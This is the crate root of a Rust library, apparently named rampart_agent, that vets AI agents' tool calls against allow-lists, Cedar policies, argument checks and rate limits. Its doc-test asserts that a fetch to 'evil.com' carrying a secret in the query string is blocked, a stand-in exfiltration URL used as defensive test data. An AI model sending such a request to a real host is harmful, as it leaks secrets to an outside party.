//! Rampart's agent security: what an organisation's agents may do, decided in one place.
//!
//! [`ToolGuard`] compiles the `[agent]` section of `rampart.toml` and decides each tool call a
//! model proposes: whether the tool is listed and open to this caller and model, whether the
//! Cedar policies permit it (`Rampart::Tool` resources, with the call's class and taint in the
//! context), whether its arguments satisfy the tool's JSON Schema and the checks JSON Schema
//! cannot express ([`args`]: URL hosts, path confinement, read-only SQL, confined shell
//! commands), whether its rate is left, and what its risk class needs, raised when untrusted
//! content is in the exchange (taint). The gateway applies the decision on the model API path;
//! the decision is the same whichever way a call travels.
//!
//! ```
//! use rampart_agent::{Call, ToolGuard, Verdict};
//! use rampart_policy::{Config, PolicyEngine, Principal};
//! let config = Config::from_toml_str(r#"
//! version = 1
//! [[agent.tools]]
//! name = "fetch"
//! class = "read"
//! checks = [{ kind = "url", arg = "url", hosts = ["docs.example.com"] }]
//! "#, "rampart.toml").unwrap();
//! let engine = PolicyEngine::from_config(&config, |_| Ok(String::new())).unwrap();
//! let guard = ToolGuard::new(&config.agent).unwrap().unwrap();
//! let alice = Principal::User { id: "alice".into(), groups: vec![] };
//! let call = |arguments| Call { principal: &alice, model: "m", name: "fetch", arguments, tainted: false };
//! assert_eq!(guard.check(&call(r#"{"url": "https://docs.example.com/a"}"#), &engine).verdict, Verdict::Allow);
//! assert_ne!(guard.check(&call(r#"{"url": "https://evil.com/?d=secret"}"#), &engine).verdict, Verdict::Allow);
//! ```

#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod args;
mod guard;
pub mod mcp;

pub use guard::{Call, Code, Decision, GuardError, ToolGuard, Verdict};
pub use mcp::canonical;
